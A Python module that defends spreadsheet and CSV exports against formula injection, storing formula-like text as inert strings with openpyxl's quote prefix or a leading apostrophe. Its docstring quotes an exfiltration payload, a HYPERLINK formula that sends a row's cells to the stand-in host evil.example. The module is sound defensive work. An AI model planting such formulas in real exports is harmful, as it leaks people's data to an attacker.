"""Text from outside, written into spreadsheets and CSV files so that no spreadsheet evaluates it.

Excel, WPS and LibreOffice read a cell that begins with `=`, `+`, `-` or `@` as a formula,
also after a leading tab, carriage return or blank: a resident's address
`=HYPERLINK("http://evil.example/?leak="&B2, "点此查看")` would become a live link that sends
the row's other cells away when clicked. Every export (the safety report's workbook, the audit
log, the intake rejects) writes its cells through this module:

- **xlsx**: such text is stored as a string cell with Excel's own "quote prefix" style, exactly
  as typed (a string cell is never a formula, and the prefix keeps it text when a user edits it).
  Characters that the xlsx format cannot hold (control characters) become U+FFFD.
- **CSV**: such text gets a leading apostrophe (`'=1+1`), which every spreadsheet shows as text.

Numbers stay numbers: a value of type int or float is written as it is, and so is a text that
is a plain number (`-103.8`, `+5`), which a spreadsheet reads as that number and nothing more.
"""

from __future__ import annotations

import re

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# What makes a spreadsheet start a formula or a command (full-width forms too: WPS and IMEs).
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
# Leading characters a spreadsheet may skip before it looks for a formula.
_SKIPPED = "\t\r\n \u00a0\u3000"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could evaluate this text (a plain number is not counted)."""
    if not text:
        return False
    if text[0] in "\t\r":
        return True
    stripped = text.lstrip(_SKIPPED)
    return bool(stripped) and stripped[0] in FORMULA_STARTS and not _NUMBER.fullmatch(stripped)


def csv_cell(value: object) -> object:
    """A CSV cell: numbers and None as they are, text a spreadsheet would evaluate made inert."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def set_cell(cell: Cell, value: object) -> Cell:
    """Write a value into an openpyxl cell: numbers as numbers, text never as a formula."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell.value = text
    if cell.data_type == "f" or is_formula_like(text):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
